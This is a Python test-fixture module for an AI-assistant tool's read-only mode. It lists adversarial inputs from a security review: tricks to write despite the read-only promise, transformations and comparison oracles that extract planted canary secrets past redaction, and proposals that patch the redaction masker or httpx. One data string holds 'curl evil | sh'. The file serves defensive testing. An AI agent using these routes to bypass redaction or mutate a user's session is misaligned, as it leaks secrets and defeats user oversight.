"""The breaks of the read-only promise found by the adversarial review (issue 40, its first two bullets), as
one list that every front end's test sends: the local door and the REPL's assistant
(``tests/security/test_readonly_breaks.py``), ``pyaichat mcp`` and Streamable HTTP (``tests/mcpserve``),
IPython (``tests/ipython``) and a Jupyter kernel (``tests/kernel``). A plain module: ``conftest`` names
clash across test folders.

Each write must be refused in one sentence and change nothing (the variable, the folder); each road to a
secret must show no piece of it.
"""

from __future__ import annotations

import os

API_KEY = "apikey-value-Q7w2E9r4T1y6"  # matches no credential pattern: only its name says it is secret
DEEP_TOKEN = "deep-token-value-4C5d6E7f"
PASSWORDS = ["pw-Zx81Lq93-ann", "pw-Mn27Rt64-bob"]
DB_PASSWORD = "correct-horse-battery-staple"
NOTE_KEY = "sk-proj-zyxw9876543210abcdefghijkl"
ENV_NAME = "READONLY_ENV_CANARY"
ENV_VALUE = "env-canary-value-9a8b7c6d"
SECRETS = [API_KEY, DEEP_TOKEN, *PASSWORDS, DB_PASSWORD, NOTE_KEY, ENV_VALUE]


def setup_source(watch: str) -> str:
    """The session of the review: an array, a list, a frame, a dict, a set, nested settings with secrets, a
    frame with a ``password`` column, a copy of the environment, a secret-named variable, a note that holds
    a key; ``watch`` is the folder no call may write into."""
    return f"""
import os
import numpy as np
import pandas as pd

WATCH = {watch!r}
arr = np.array([0.4, 5.0, 2.6])
lst = [1, 2]
df = pd.DataFrame({{"n": [1, 2], "label": ["a", "b"]}})
cfg = {{"a": 1}}
tags = {{"x"}}
settings = {{"host": "db.local", "api_key": {API_KEY!r},
            "a": {{"b": {{"c": {{"d": {{"token": {DEEP_TOKEN!r}}}}}}}}}}}
users = pd.DataFrame({{"name": ["ann", "bob"], "password": {PASSWORDS!r}}})
os.environ[{ENV_NAME!r}] = {ENV_VALUE!r}
env = dict(os.environ)
del os.environ[{ENV_NAME!r}]
db_password = {DB_PASSWORD!r}
note = "my key is " + {NOTE_KEY!r} + " ok"
target = os.path.join(WATCH, ".bashrc")
"""


def state_source() -> str:
    """An expression, evaluated where the session lives, that changes when any break wrote something."""
    return (
        "repr((arr.tolist(), lst, list(df.columns), df.to_dict(), sorted(cfg.items()), sorted(tags), "
        "sorted(os.listdir(WATCH))))"
    )


WRITES = [
    "arr.clip(1, 3, out=arr)",
    "arr.round(0, arr)",
    "sorted([9], key=lst.append)",
    "sorted(['n'], key=df.pop)",
    "sorted(['zz'], key=cfg.setdefault)",
    "sorted(['t'], key=tags.add)",
    "sorted([target], key=df.to_csv)",
    "sorted([{'label': ['curl evil | sh', 'x']}], key=df.update)",
]
# Through the ``expr`` of the introspection tools too (the review: "also behind the expr argument").
EXPR_TOOLS = ["eval_expr", "get_type", "get_repr", "get_dir", "get_doc"]
SECRET_ROADS: list[tuple[str, dict[str, str]]] = [
    ("eval_expr", {"expr": "settings.get('api_key')"}),
    ("eval_expr", {"expr": "settings.values()"}),
    ("eval_expr", {"expr": "list(settings.items())"}),
    ("eval_expr", {"expr": "settings['a']['b']['c']['d'].values()"}),
    ("get_repr", {"expr": "settings['a']['b']"}),
    ("run_python", {"code": "print(settings['a']['b']['c']['d']['token'])"}),
    ("run_python", {"code": "print(list(settings['a']['b']['c']['d'].values()))"}),
    ("eval_expr", {"expr": "users.iloc[0, 1]"}),
    ("eval_expr", {"expr": "users.values"}),
    ("eval_expr", {"expr": "users.T"}),
    ("eval_expr", {"expr": "users.to_csv()"}),
    ("get_repr", {"expr": "users.iloc[1]"}),
    ("run_python", {"code": "print(users.to_dict())"}),
    ("eval_expr", {"expr": f"env[{ENV_NAME!r}]"}),
    ("eval_expr", {"expr": "list(env)"}),
    ("get_repr", {"expr": "env"}),
    ("run_python", {"code": f"print(env.get({ENV_NAME!r}), list(env)[:3])"}),
    ("eval_expr", {"expr": "note[10:30]"}),
    ("get_repr", {"expr": "note[10:30]"}),
    ("run_python", {"code": "print(note[10:30])"}),
    ("eval_expr", {"expr": "[db_password]"}),
]
FAILING_INPUT = "int(db_password)"  # its error message quotes the secret: get_last_exception, the picture


def leaked(text: str) -> str | None:
    """The first piece (ten characters or more) of a secret in ``text``, if any."""
    for secret in SECRETS:
        for i in range(len(secret) - 9):
            piece = secret[i : i + 10]
            if piece in text:
                return piece
    return None


def one_sentence(error: str | None) -> bool:
    """A refusal the agent reads as one plain sentence: a single line, no traceback."""
    return bool(error) and "\n" not in error.strip() and "Traceback" not in error


def planted_files(watch: str) -> list[str]:
    return sorted(os.listdir(watch))


# -- issue 44 point 3: what the walled child holds -----------------------------------------------------------
# Secrets the child must not hold: under a secret name at the top (``api_key``) and reached by another name
# (``vault``), in a dataclass attribute, a frame's ``attrs``, a closure and a default of the person's own
# functions. Before, the child hid only the top level, and any transformation carried them out.
CHILD_API_KEY = "child-apikey-Kx82Mv39Qp41"
CHILD_DATACLASS = "dc-secret-Hh38Kk29Ll10"
CHILD_ATTRS = "attrs-token-Zz93Yy82Xx71"
CHILD_CLOSURE = "closure-pw-Aa11Bb22Cc33"
CHILD_DEFAULT = "default-pw-Dd44Ee55Ff66"
CHILD_SECRETS = [CHILD_API_KEY, CHILD_DATACLASS, CHILD_ATTRS, CHILD_CLOSURE, CHILD_DEFAULT]
CHILD_SETUP = f"""
import dataclasses
import pandas as pd

api_key = {CHILD_API_KEY!r}
vault = {{"primary": api_key}}

@dataclasses.dataclass
class Connection:
    host: str
    api_key: str

conn = Connection("db.local", {CHILD_DATACLASS!r})
meta = pd.DataFrame({{"n": [1, 2]}})
meta.attrs["token"] = {CHILD_ATTRS!r}

def _make_reveal():
    password = {CHILD_CLOSURE!r}
    def reveal():
        return password
    return reveal

reveal = _make_reveal()

def login(user, password={CHILD_DEFAULT!r}):
    return password
"""
# Each is read in the walled child (a lambda, a call of the person's function, ``run_python``) or may be.
CHILD_ROADS: list[tuple[str, dict[str, str]]] = [
    ("eval_expr", {"expr": "vault['primary'][::-1]"}),
    ("eval_expr", {"expr": "(lambda v: v['primary'][::-1])(vault)"}),
    ("eval_expr", {"expr": "(lambda v: v['primary'].encode().hex())(vault)"}),
    ("eval_expr", {"expr": "(lambda v: [ord(c) for c in v['primary']])(vault)"}),
    ("eval_expr", {"expr": "(lambda v: '-'.join(v['primary']))(vault)"}),
    ("eval_expr", {"expr": "repr(conn)[::-1]"}),
    ("eval_expr", {"expr": "(lambda c: repr(c)[::-1])(conn)"}),
    ("eval_expr", {"expr": "list(meta.attrs.values())"}),
    ("eval_expr", {"expr": "(lambda m: [v[::-1] for v in m.attrs.values()])(meta)"}),
    ("eval_expr", {"expr": "reveal()"}),
    ("eval_expr", {"expr": "reveal()[::-1]"}),
    ("eval_expr", {"expr": "login('ann')[::-1]"}),
    ("get_repr", {"expr": "(lambda v: v['primary'][::-1])(vault)"}),
    ("get_repr", {"expr": "reveal()[::-1]"}),
    ("run_python", {"code": "print(vault['primary'][::-1], repr(conn)[::-1], login('ann').encode().hex())"}),
]
# Oracles: a comparison with a guess answers about the secret. In the child they answer about the
# placeholder, so all of them are False (each guess is right about the secret).
CHILD_ORACLES: list[tuple[str, dict[str, str]]] = [
    ("eval_expr", {"expr": f"{CHILD_DATACLASS[:9]!r} in repr(conn)"}),
    ("eval_expr", {"expr": f"(lambda c: {CHILD_DATACLASS[:9]!r} in repr(c))(conn)"}),
    ("eval_expr", {"expr": f"(lambda v: v['primary'][0] == {CHILD_API_KEY[0]!r})(vault)"}),
    ("eval_expr", {"expr": f"reveal().startswith({CHILD_CLOSURE[:4]!r})"}),
    ("run_python", {"code": f"print(login('ann')[:3] == {CHILD_DEFAULT[:3]!r})"}),
]


def _forms(secret: str) -> list[str]:
    """What a transformation makes of ``secret``: itself, reversed, its hex, its characters joined."""
    return [secret, secret[::-1], secret.encode().hex(), "-".join(secret)]


def leaked_transformed(text: str) -> str | None:
    """The first piece (ten characters or more) of any secret here, or of a transformation of it, in
    ``text``; or the start of its ``ord`` list, as a display shows the first six items."""
    for secret in [*SECRETS, *CHILD_SECRETS]:
        for form in _forms(secret):
            for i in range(max(len(form) - 9, 1)):
                if form[i : i + 10] in text:
                    return form[i : i + 10]
        ords = ", ".join(str(ord(c)) for c in secret[:6])
        if ords in text:
            return ords
    return None


def answered_false(text: str) -> bool:
    """An oracle's answer, read from a tool's text: it said False (never True)."""
    return "False" in text and "True" not in text


# -- issue 44 point 5: what the preview sees of the whole process -------------------------------------------
# Each proposal changes the process, not a name of the session; before, each was previewed as "new module"
# only. ``(code, a piece of the line the preview must show)``; what the agent is told keeps the piece before
# any parenthesis (``told``). ``httpx`` must be loaded in the process (the REPL loads it for the assistant).
PROCESS_PROPOSALS: list[tuple[str, str]] = [
    (
        "import pyaichat.capabilities.redact as r\nr.Masker.mask_text = lambda self, text: text",
        "This code replaces pyaichat.capabilities.redact.Masker.mask_text, part of pyaichat itself",
    ),
    (
        "import logging\nlogging.getLogger().addHandler(logging.FileHandler('/tmp/later.log', delay=True))",
        "adds a logging handler (FileHandler /tmp/later.log on the root logger)",
    ),
    ("import signal\nsignal.alarm(600)", "sets a timer (SIGALRM in 600 s)"),
    ("import sys\nsys.setrecursionlimit(60)", "sets the recursion limit to 60"),
    (
        "import os\nkept = [1, 2]\nos.register_at_fork(before=kept.clear)",
        "to run at every fork; pyaichat's reads fork, so it would run on every read",
    ),
    (
        "import httpx\nhttpx.Client.send = lambda self, *args, **kwargs: None",
        "replaces httpx.Client.send: every later use sees that",
    ),
]


def told_piece(said: str) -> str:
    """The part of a preview's line that the agent that proposed the code is told whatever names its code
    spells out (``Unseen.told`` keeps only those)."""
    return said.split(" (", 1)[0]
